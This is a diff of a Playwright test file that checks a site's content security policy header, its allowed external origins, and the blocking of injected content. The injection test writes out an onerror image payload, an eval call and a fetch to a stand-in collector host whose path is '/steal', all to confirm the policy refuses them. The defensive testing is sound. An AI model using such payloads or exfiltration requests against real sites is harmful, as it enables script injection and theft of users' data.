@@ -1,14 +1,14 @@
 import { resolveMail, SAME_ORIGIN } from '../../config/mail.ts';
 import { expect, open, paths, site, test } from './site.ts';
 
-/** Where the owner's settings have the pages fetch from or send to, beside this server. */
+/** The external origins that the owner's settings allow. */
 const { origin: mailOrigin } = resolveMail(process.env);
-const outside = [
+const externalOrigins = [
   ...(mailOrigin === SAME_ORIGIN ? [] : [new URL(mailOrigin).origin]),
   ...(site.analytics === null ? [] : [new URL(site.analytics.scriptUrl).origin, ...site.analytics.sendsTo]),
 ];
 
-test('every page has a policy of its own, in itself as well where a host may send no headers', async ({
+test('every page has a content security policy header, and a meta tag for hosts without headers', async ({
   request,
 }) => {
   for (const path of paths) {
@@ -19,7 +19,7 @@ test('every page has a policy of its own, in itself as well where a host may sen
     expect(header, path).toContain("require-trusted-types-for 'script'");
     expect(header, path).not.toContain('unsafe-');
     for (const [origin] of header.matchAll(/https?:\/\/[^\s;]+/g)) {
-      expect(outside, path).toContain(origin);
+      expect(externalOrigins, path).toContain(origin);
     }
     const inPage = /<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(await response.text());
     const text = inPage?.[1]?.replaceAll('&apos;', "'").replaceAll('&#39;', "'");
@@ -28,7 +28,7 @@ test('every page has a policy of its own, in itself as well where a host may sen
   }
 });
 
-test('what somebody slips into a page does not run, load or send', async ({ page, allowConsole }) => {
+test('the policy blocks injected scripts, images and requests', async ({ page, allowConsole }) => {
   allowConsole(/Content Security Policy|TrustedHTML|TrustedScript|Trusted Type/);
   await open(page, '/');
   const title = await page.title();
@@ -52,9 +52,9 @@ test('what somebody slips into a page does not run, load or send', async ({ page
     const refusedHtml = isRefused(() => {
       document.body.innerHTML += '<img src="x" onerror="document.title = \'injected\'">';
     });
-    // Later, because what the test itself evaluates stands above the page's policy.
+    // Runs in a timer, because code that Playwright evaluates bypasses the page's policy.
     const refusedEval = await new Promise<boolean>((resolve) => {
-      // biome-ignore lint/security/noGlobalEval: that it is refused is what is tested.
+      // biome-ignore lint/security/noGlobalEval: the test expects eval to be blocked.
       setTimeout(() => resolve(isRefused(() => eval('document.title = "injected"'))));
     });
     const sent = await fetch('https://collector.example/steal').then(
